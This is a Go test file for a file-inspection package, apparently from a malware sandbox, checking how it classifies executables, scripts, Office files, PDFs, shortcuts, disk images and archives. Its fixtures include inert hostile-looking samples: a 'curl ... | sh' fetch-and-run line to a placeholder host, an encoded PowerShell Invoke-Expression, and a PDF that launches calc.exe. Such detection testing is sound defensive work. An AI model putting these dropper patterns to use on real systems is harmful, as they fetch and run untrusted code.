package inspect_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"tyto/sandboxlink/decide/authenticode"
	"tyto/sandboxlink/decide/decidetest"
	"tyto/sandboxlink/decide/inspect"
)

type part = decidetest.Part

// noise looks compressed.
func noise(n int) []byte {
	var b []byte
	for sum := sha256.Sum256([]byte("seed")); len(b) < n; sum = sha256.Sum256(sum[:]) {
		b = append(b, sum[:]...)
	}
	return b[:n]
}

// sample is a file and what must be seen in it.
type sample struct {
	name    string
	content []byte
	typ     string
	kind    inspect.Kind
	traits  string // codes, in order
}

func samples() []sample {
	pe := string(decidetest.PE(nil))
	return []sample{
		{"program for windows", decidetest.PE(nil), "EXE", inspect.PE, ""},
		{"packed program for windows", decidetest.PE(noise(16 << 10)), "EXE", inspect.PE, "packed"},
		{"program for windows with an appended archive", append(decidetest.PE(nil), decidetest.Zip(part{"a.exe", pe})...), "EXE", inspect.PE, "holds-pe"},
		{"program for dos", append([]byte("MZ"), make([]byte, 100)...), "EXE", inspect.PE, "odd-program"},
		{"program for linux", decidetest.ELF(decidetest.ELFProgram, []byte{0xc3}, ".text"), "ELF", inspect.ELF, ""},
		{"packed program for linux", decidetest.ELF(decidetest.ELFProgram, noise(16<<10), ".text"), "ELF", inspect.ELF, "packed"},
		{"shared library", decidetest.ELF(decidetest.ELFShared, []byte{0xc3}, ".text"), "ELF", inspect.ELF, "library"},
		{"object file", decidetest.ELF(decidetest.ELFObject, nil, ".text"), "ELF", inspect.None, ""},
		{"kernel module", decidetest.ELF(decidetest.ELFObject, nil, ".text", ".gnu.linkonce.this_module"), "ELF", inspect.ELF, "kernel-code"},
		{"half an elf header", []byte("\x7fELF\x02\x01\x01"), "ELF", inspect.ELF, "damaged"},

		{"shell script", []byte("#!/bin/sh\necho hello\n"), "UNIX SCRIPT", inspect.Script, ""},
		{"dropping shell script", []byte("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"), "UNIX SCRIPT", inspect.Script, "gets-code"},
		{"python without shebang", []byte("import os\nimport sys\n\ndef main():\n    print(sys.argv)\n\nif __name__ == \"__main__\":\n    main()\n"), "Python", inspect.Script, ""},
		{"javascript", []byte("var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"calc\");\n"), "JavaScript", inspect.Script, ""},
		{"vbscript", []byte("Dim x\nSet x = CreateObject(\"WScript.Shell\")\nx.Popup \"hello\"\n"), "VBS", inspect.Script, ""},
		{"powershell", []byte("$x = New-Object System.Net.WebClient\n$y = $env:TEMP\nWrite-Host $y\n"), "PowerShell Script", inspect.Script, ""},
		{"encoded powershell", []byte("$x = [Convert]::FromBase64String('AAAA')\nInvoke-Expression $x\n"), "PowerShell Script", inspect.Script, "obfuscated"},
		{"batch without echo off", []byte("set x=1\r\nif exist %~dp0a.txt goto end\r\nstart /min notepad\r\n:end\r\n"), "BATCH", inspect.Script, ""},
		{"perl without shebang", []byte("use strict;\nuse warnings;\nmy $x = shift;\nprint $x;\n"), "Perl", inspect.Script, ""},
		{"windows script file", []byte("<package><job id=\"a\"><script language=\"VBScript\">MsgBox 1</script></job></package>"), "WSF", inspect.Script, ""},
		{"wide javascript", wide("var a = new ActiveXObject('x');"), "JavaScript", inspect.Script, ""},
		{"prose", []byte("Dear reader,\nplease import the file from the disk and export it.\nYours, A.\n"), "", inspect.None, ""},
		{"c source", []byte("#include <stdio.h>\nstatic const char *x = \"eval\";\nint main(void) {\n\treturn function(x);\n}\n"), "", inspect.None, ""},
		{"page with a script", []byte("<!DOCTYPE html><html><script>var x = document.title; eval(x)</script></html>"), "HTML", inspect.None, ""},
		{"hta", []byte("<html><head><HTA:APPLICATION id=x></head></html>"), "HTA", inspect.HTA, ""},

		{"msi", decidetest.OLE(decidetest.MSI), "MSI", inspect.Installer, ""},
		{"old word document", decidetest.OLE("", decidetest.Entry{Name: "WordDocument"}), "OLE", inspect.Office, ""},
		{"old word document with macros", decidetest.OLE("", decidetest.Entry{Name: "Macros", Storage: true}, decidetest.Entry{Name: "VBA", Storage: true}), "OLE", inspect.Office, "macros"},
		{"old word document with a package", decidetest.OLE("", decidetest.Entry{Name: "ObjectPool", Storage: true}, decidetest.Entry{Name: "\x01Ole10Native"}), "OLE", inspect.Office, "embedded"},
		{"old workbook", decidetest.OLE("", decidetest.Entry{Name: "Workbook", Content: decidetest.Workbook(0)}), "OLE", inspect.Office, ""},
		{"old workbook with excel 4 macros", decidetest.OLE("", decidetest.Entry{Name: "Workbook", Content: decidetest.Workbook(1)}), "OLE", inspect.Office, "macros"},
		{"encrypted document", decidetest.OLE("", decidetest.Entry{Name: "EncryptedPackage"}), "OLE", inspect.Office, "encrypted"},
		{"half an old document", decidetest.OLE("")[:100], "OLE", inspect.Office, "damaged"},
		{"docx", decidetest.Docx(), "Office", inspect.Office, ""},
		{"docm", decidetest.Docx(part{"word/vbaProject.bin", string(decidetest.OLE("", decidetest.Entry{Name: "VBA", Storage: true}))}), "Office", inspect.Office, "macros"},
		{"docx with an object", decidetest.Docx(part{"word/embeddings/oleObject1.bin", string(decidetest.OLE(""))}), "Office", inspect.Office, "embedded"},
		{"docx with a program", decidetest.Docx(part{"word/media/image1.png", pe}), "Office", inspect.Office, "holds-pe"},
		{"docx with a remote template", decidetest.Docx(part{"word/_rels/settings.xml.rels",
			`<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/a" TargetMode="External"/></Relationships>`}), "Office", inspect.Office, "remote-content"},
		{"docx with a link", decidetest.Docx(part{"word/_rels/document.xml.rels",
			`<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://example.invalid/a" TargetMode="External"/></Relationships>`}), "Office", inspect.Office, ""},
		{"docx behind other members", decidetest.Zip(part{"a.txt", "x"}, part{"b.txt", "x"}, part{"c.txt", "x"}, part{"d.txt", "x"}, part{"e.txt", "x"},
			part{"word/vbaProject.bin", "x"}, part{"[Content_Types].xml", "<x/>"}), "Office", inspect.Office, "macros"},
		{"odt with macros", decidetest.Zip(part{"mimetype", "application/vnd.oasis.opendocument.text"}, part{"content.xml", "<x/>"}, part{"Basic/Standard/Module1.xml", "<x/>"}), "", inspect.Office, "macros"},

		{"rtf", []byte(`{\rtf1\ansi hello}`), "RTF", inspect.RTF, ""},
		{"rtf with an object", []byte(`{\rtf1{\object\objemb{\*\objdata 01050000 d0 cf 11 e0}}}`), "RTF", inspect.RTF, "embedded"},
		{"rtf with a remote template", []byte(`{\rtf1{\*\template http://example.invalid/a}}`), "RTF", inspect.RTF, "remote-content"},
		{"mutilated rtf", []byte("{\\rt\x01\\x}"), "RTF", inspect.RTF, "obfuscated"},

		{"pdf", decidetest.PDF(""), "PDF", inspect.PDF, ""},
		{"pdf with javascript", decidetest.PDF("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "PDF", inspect.PDF, "pdf-javascript pdf-action"},
		{"pdf with hidden javascript", decidetest.PDF("/A << /S /J#61vaScript >>"), "PDF", inspect.PDF, "pdf-javascript"},
		{"pdf that starts a program", decidetest.PDF("/A << /S /Launch /F (calc.exe) >>"), "PDF", inspect.PDF, "pdf-launch"},
		{"pdf with compressed javascript", decidetest.PDFObjects("<< /S /JavaScript >>"), "PDF", inspect.PDF, "pdf-javascript"},
		{"pdf with a longer word", decidetest.PDF("/JSON (x) /Launcher (y)"), "PDF", inspect.PDF, ""},

		{"shortcut", decidetest.Link(`..\notes.txt`, ""), "LNK", inspect.Shortcut, ""},
		{"shortcut to powershell", decidetest.Link(`..\WindowsPowerShell\v1.0\powershell.exe`, "-w hidden "+strings.Repeat("x", 300)), "LNK", inspect.Shortcut, "interpreter long-command"},
		{"internet shortcut", []byte("[InternetShortcut]\r\nURL=https://example.invalid/\r\n"), "URL", inspect.Shortcut, ""},
		{"internet shortcut to a share", []byte("[InternetShortcut]\r\nURL=file://example.invalid/a.exe\r\n"), "URL", inspect.Shortcut, "remote-content"},
		{"chm", []byte("ITSF\x03\x00\x00\x00\x60\x00\x00\x00"), "CHM", inspect.Help, ""},
		{"onenote", decidetest.OneNote([]byte("hello, world, hello")), "ONENOTE", inspect.OneNote, "embedded"},
		{"onenote with a program", decidetest.OneNote([]byte(pe)), "ONENOTE", inspect.OneNote, "holds-pe"},

		{"iso", decidetest.ISO(part{"A.TXT;1", "hello"}), "ISO", inspect.Disk, ""},
		{"iso with a shortcut", decidetest.ISO(part{"A.TXT;1", "hello"}, part{"A.LNK;1", string(decidetest.Link("cmd.exe", ""))}), "ISO", inspect.Disk, "holds-shortcut"},
		{"vhd by its end", append(make([]byte, 4096), append([]byte("conectix"), make([]byte, 504)...)...), "VHD", inspect.Disk, "not-all-seen"},
		{"raw image", bootSector(), "BOOTIMG", inspect.Disk, "not-all-seen"},

		{"zip of texts", decidetest.Zip(part{"a.txt", "hello"}), "ZIP", inspect.Archive, ""},
		{"zip of a program called a picture", decidetest.Zip(part{"a.jpg", pe}), "ZIP", inspect.Archive, "holds-pe"},
		{"program in a zip in a zip", decidetest.Zip(part{"a.zip", string(decidetest.Zip(part{"b.zip", string(decidetest.Zip(part{"c.exe", pe}))}))}), "ZIP", inspect.Archive, "holds-pe"},
		{"zips in zips", nest(6), "ZIP", inspect.Archive, "not-all-seen"},
		{"jar", decidetest.Zip(part{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0"}, part{"A.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10"}), "JAR", inspect.Java, ""},
		{"jar with the manifest last", decidetest.Zip(part{"a", "x"}, part{"b", "x"}, part{"c", "x"}, part{"d", "x"},
			part{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0"}, part{"A.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10"}), "JAR", inspect.Java, ""},
		{"class", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10"), "Class", inspect.Java, ""},
		{"ace", []byte("\x00\x00\x31\x00\x00\x00\x10**ACE**\x14\x14"), "ACE", inspect.Archive, "not-all-seen"},
		{"damaged zip", decidetest.Zip(part{"a.txt", "hello"})[:20], "ZIP", inspect.Archive, "damaged"},

		{"empty", nil, "", inspect.None, ""},
		{"picture", []byte("\x89PNG\r\n\x1a\n"), "PNG", inspect.None, ""},
	}
}

func wide(text string) []byte {
	b := []byte("\xff\xfe")
	for _, c := range []byte(text) {
		b = append(b, c, 0)
	}
	return b
}

func bootSector() []byte {
	b := make([]byte, 4096)
	copy(b, "\xeb\x3c\x90MSDOS5.0\x00\x02")
	b[510], b[511] = 0x55, 0xaa
	return b
}

func nest(n int) []byte {
	content := []byte("hello")
	for range n {
		content = decidetest.Zip(part{"a.zip", string(content)})
	}
	return content
}

func codes(f *inspect.Facts) string {
	var all []string
	for _, t := range f.Traits {
		all = append(all, string(t.Code))
	}
	return strings.Join(all, " ")
}

func TestInspect(t *testing.T) {
	for _, s := range samples() {
		t.Run(s.name, func(t *testing.T) {
			facts, err := inspect.Inspect(bytes.NewReader(s.content), int64(len(s.content)), verifier(t))
			if err != nil {
				t.Fatal(err)
			}
			if want := fmt.Sprintf("%x", sha256.Sum256(s.content)); facts.SHA256 != want {
				t.Errorf("SHA-256 is %s, want %s", facts.SHA256, want)
			}
			got := []string{facts.Type, string(facts.Kind), codes(facts)}
			want := []string{s.typ, string(s.kind), s.traits}
			if s.typ == "" && s.kind != inspect.None {
				want[0] = got[0]
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("type, kind, traits (-want +got):\n%s%+v", diff, facts.Traits)
			}
		})
	}
}

// Each kind that a policy can name has a sample.
func TestEveryKindHasASample(t *testing.T) {
	without := []inspect.Kind{inspect.MachO, inspect.Android} // told by their first bytes alone
	for _, kind := range inspect.Kinds {
		has := slices.ContainsFunc(samples(), func(s sample) bool { return s.kind == kind })
		if !has && !slices.Contains(without, kind) {
			t.Errorf("no sample is of kind %q", kind)
		}
	}
}

// What was seen passes from the worker to the broker as it is.
func TestFactsPass(t *testing.T) {
	for _, s := range samples() {
		facts, err := inspect.Inspect(bytes.NewReader(s.content), int64(len(s.content)), verifier(t))
		if err != nil {
			t.Fatal(err)
		}
		answer, err := json.Marshal(facts)
		if err != nil {
			t.Fatal(err)
		}
		got, err := inspect.ReadFacts(answer)
		if err != nil {
			t.Fatalf("%s: %v", s.name, err)
		}
		if diff := cmp.Diff(facts, got); diff != "" {
			t.Errorf("%s (-sent +received):\n%s", s.name, diff)
		}
	}
}

// A worker that was taken over can lie, and no more.
func TestReadFactsRefuses(t *testing.T) {
	for name, answer := range map[string]string{
		"no json":     `{"type":`,
		"unknown":     `{"root":true}`,
		"long type":   `{"type":"` + strings.Repeat("x", 1000) + `"}`,
		"long detail": `{"traits":[{"code":"macros","detail":"` + strings.Repeat("x", 1000) + `"}]}`,
		"many traits": `{"traits":[` + strings.Repeat(`{"code":"a"},`, 100) + `{"code":"a"}]}`,
		"too long":    strings.Repeat(" ", inspect.MaxFacts) + `{}`,
	} {
		if facts, err := inspect.ReadFacts([]byte(answer)); err == nil {
			t.Errorf("%s: got %+v, want an error", name, facts)
		}
	}
}

func verifier(t testing.TB) *authenticode.Verifier {
	v, err := authenticode.NewVerifier(nil)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// Whatever the content, an inspection ends without a panic, and its facts pass.
func FuzzInspect(f *testing.F) {
	for _, s := range samples() {
		if len(s.content) < 64<<10 {
			f.Add(s.content)
		}
	}
	v := verifier(f)
	f.Fuzz(func(t *testing.T, content []byte) {
		facts, err := inspect.Inspect(bytes.NewReader(content), int64(len(content)), v)
		if err != nil {
			t.Fatal(err)
		}
		answer, err := json.Marshal(facts)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := inspect.ReadFacts(answer); err != nil {
			t.Fatal(err)
		}
	})
}

func BenchmarkHead(b *testing.B) {
	text := bytes.Repeat([]byte("static int x; /* the quick brown fox */\n"), 300)
	for b.Loop() {
		inspect.Head(text)
	}
}
